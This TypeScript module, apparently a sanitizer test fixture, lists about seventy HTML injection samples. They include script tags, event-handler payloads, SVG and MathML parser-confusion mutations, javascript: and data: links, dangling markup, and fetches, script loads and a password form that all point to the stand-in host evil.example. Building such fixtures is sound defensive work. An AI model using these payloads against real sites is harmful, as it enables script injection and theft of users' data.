/** A text that tries to run code or to reach another host. It calls `hit()`; `evil.example` is its other host. */
export interface Attack {
  /** The construct that the attack uses. */
  name: string;
  html: string;
  /** The sample is unclosed and swallows the following text, so it must be the last one in a text. */
  open?: boolean;
}

const leftOpen: readonly Attack[] = [
  { name: 'dangling picture', html: '<img src="https://evil.example/?' },
  { name: 'dangling picture in single quotes', html: "<img src='https://evil.example/?" },
  { name: 'dangling background', html: '<table background="//evil.example/?' },
  { name: 'dangling form field', html: '<form action=//evil.example><textarea name=all>' },
  { name: 'open comment', html: '<!-- --!><img src=x onerror=hit()>-->' },
  { name: 'open title', html: '<title><img title="</title><img src=x onerror=hit()>">' },
  { name: 'plain text', html: '<plaintext><img src=x onerror=hit()>' },
];

const closed: readonly Attack[] = [
  { name: 'script', html: '<script>hit()</script>' },
  { name: 'script in capitals with odd spaces', html: '<ScRiPt\n>hit()</sCrIpT\t>' },
  { name: 'script from another host', html: '<script src=//evil.example/x.js></script>' },
  { name: 'script as a module', html: '<script type=module>import "https://evil.example/x.js"</script>' },
  { name: 'picture that fails', html: '<img src=x onerror=hit()>' },
  { name: 'picture with a slash for a space', html: '<img/src=x/onerror=hit()>' },
  { name: 'picture with a broken quote', html: '<img """><script>hit()</script>">' },
  { name: 'image, the old name', html: '<image src=x onerror=hit()>' },
  { name: 'svg onload', html: '<svg onload=hit()></svg>' },
  { name: 'svg script', html: '<svg><script>hit()</script></svg>' },
  { name: 'svg script by reference', html: '<svg><script href="data:text/javascript,hit()"></script></svg>' },
  { name: 'svg animate event', html: '<svg><animate onbegin=hit() attributeName=x dur=1s></svg>' },
  {
    name: 'svg animated link',
    html: '<svg><a><animate attributeName=href values=javascript:hit()></animate><text y=20>x</text></a></svg>',
  },
  { name: 'svg use', html: '<svg><use href="data:image/svg+xml,<svg id=x onload=hit()></svg>#x"></use></svg>' },
  { name: 'svg foreign object', html: '<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>' },
  { name: 'svg style', html: '<svg><style><img src=x onerror=hit()></style></svg>' },
  { name: 'svg title and style', html: '<svg></p><style><a id="</style><img src=1 onerror=hit()>"></svg>' },
  {
    name: 'mathml link',
    html: '<math><maction actiontype=statusline xlink:href="javascript:hit()">x</maction></math>',
  },
  { name: 'mathml and table', html: '<math><mtext><table><mglyph><style><img src=x onerror=hit()></style></math>' },
  {
    name: 'mathml and two forms',
    html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()></style></form>',
  },
  {
    name: 'mathml comment',
    html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;"></math>',
  },
  {
    name: 'mathml annotation',
    html: '<math><annotation-xml encoding="text/html"><style></math><img src=x onerror=hit()></style></annotation-xml></math>',
  },
  {
    name: 'noscript that closes in an attribute',
    html: '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>',
  },
  {
    name: 'style that closes in an attribute',
    html: '<p><style><a title="</style><img src=x onerror=hit()>"></style></p>',
  },
  {
    name: 'textarea that closes in an attribute',
    html: '<textarea><a title="</textarea><img src=x onerror=hit()>"></textarea>',
  },
  { name: 'xmp that closes in an attribute', html: '<xmp><p title="</xmp><svg/onload=hit()>"></xmp>' },
  { name: 'template', html: '<template><img src=x onerror=hit()></template>' },
  {
    name: 'shadow root in the markup',
    html: '<div><template shadowrootmode=open><img src=x onerror=hit()></template></div>',
  },
  { name: 'select', html: '<select><iframe></select><img src=x onerror=hit()></iframe></select>' },
  { name: 'javascript link', html: '<a href="javascript:hit()">x</a>' },
  { name: 'javascript link with a tab', html: '<a href="java\tscript:hit()">x</a>' },
  { name: 'javascript link in entities', html: '<a href="&#106;avascript&colon;hit()">x</a>' },
  { name: 'javascript link behind a control character', html: '<a href="\u0001javascript:hit()">x</a>' },
  { name: 'vbscript link', html: '<a href="vbscript:hit()">x</a>' },
  { name: 'data link', html: '<a href="data:text/html,<script>opener.hit()</script>">x</a>' },
  { name: 'area', html: '<map name=m><area href="javascript:hit()" shape=default></map><img usemap=#m src=x>' },
  { name: 'frame with a document', html: '<iframe srcdoc="<script>parent.hit()</script>"></iframe>' },
  { name: 'frame with a javascript address', html: '<iframe src="javascript:parent.hit()"></iframe>' },
  { name: 'frame of another host', html: '<iframe src=https://evil.example></iframe>' },
  { name: 'object', html: '<object data="javascript:hit()"></object>' },
  { name: 'object of a data document', html: '<object data="data:text/html,<script>parent.hit()</script>"></object>' },
  { name: 'embed', html: '<embed src="javascript:hit()">' },
  { name: 'details', html: '<details open ontoggle=hit()>x</details>' },
  { name: 'focus', html: '<input autofocus onfocus=hit()>' },
  { name: 'focus of any element', html: '<p tabindex=1 autofocus onfocus=hit()>x</p>' },
  { name: 'animation event', html: '<p style="animation:pass 1s" onanimationstart=hit()>x</p>' },
  { name: 'marquee', html: '<marquee onstart=hit()>x</marquee>' },
  { name: 'video', html: '<video><source onerror=hit()></video>' },
  { name: 'audio of another host', html: '<audio src=https://evil.example/x.mp3 autoplay onerror=hit()></audio>' },
  { name: 'body', html: '<body onload=hit() onpageshow=hit() background=//evil.example/x.png></body>' },
  { name: 'style import', html: '<style>@import "//evil.example/x.css";</style>' },
  { name: 'style rule that fetches', html: '<style>p{background:url(//evil.example/x)}</style>' },
  { name: 'style attribute that fetches', html: '<p style="background:url(//evil.example/x)">x</p>' },
  { name: 'link to a style sheet', html: '<link rel=stylesheet href="//evil.example/x.css">' },
  {
    name: 'link that fetches ahead',
    html: '<link rel=prefetch href="//evil.example/x"><link rel=dns-prefetch href="//evil.example">',
  },
  { name: 'picture of another host', html: '<img src="https://evil.example/seen.png">' },
  { name: 'picture of another host, without a scheme', html: '<img src="//evil.example/seen.png">' },
  { name: 'picture by set', html: '<img srcset="//evil.example/x 1x">' },
  { name: 'picture by source', html: '<picture><source srcset="//evil.example/x"><img src=x></picture>' },
  { name: 'background of a cell', html: '<table><tr><td background="//evil.example/x">x</td></tr></table>' },
  {
    name: 'button with an address',
    html: '<form action=//evil.example><button formaction="javascript:hit()">x</button></form>',
  },
  {
    name: 'form that sends away',
    html: '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
  },
  { name: 'refresh', html: '<meta http-equiv="refresh" content="0;url=//evil.example">' },
  { name: 'base', html: '<base href="https://evil.example/">' },
  {
    name: 'names that shadow the page',
    html: '<a id=location name=location href="https://evil.example">x</a><img name=cookie id=body src=x>',
  },
  { name: 'popover', html: '<button popovertarget=p>x</button><div popover id=p onbeforetoggle=hit()>x</div>' },
  { name: 'hidden until found', html: '<p hidden=until-found onbeforematch=hit()>x</p>' },
  { name: 'custom element', html: '<p is=x-p><x-x onclick=hit() tabindex=0>x</x-x></p>' },
];

/** Known methods by which a text ran code in browsers or revealed its reader to another host. */
export const attacks: readonly Attack[] = [...closed, ...leftOpen.map((attack) => ({ ...attack, open: true }))];
